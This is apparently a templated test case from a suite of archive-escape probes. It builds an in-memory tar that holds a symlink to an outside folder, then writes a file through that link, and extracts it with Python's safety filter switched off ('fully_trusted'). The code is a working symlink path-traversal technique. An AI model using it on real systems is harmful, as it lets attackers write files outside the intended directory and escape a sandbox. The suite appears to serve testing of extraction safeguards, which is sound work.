# class: archive
# technique: tar: a symlink to a foreign folder, then a file written through it
# success: path_exists @@DROP@@/l10
import tarfile, io
b = io.BytesIO()
with tarfile.open(fileobj=b, mode='w') as t:
    m = tarfile.TarInfo('d'); m.type = tarfile.SYMTYPE; m.linkname = '@@DROP@@'; t.addfile(m)
    n = tarfile.TarInfo('d/l10'); n.size = 1; t.addfile(n, io.BytesIO(b'x'))
b.seek(0)
with tarfile.open(fileobj=b) as t: t.extractall('/mnt/data', filter='fully_trusted')
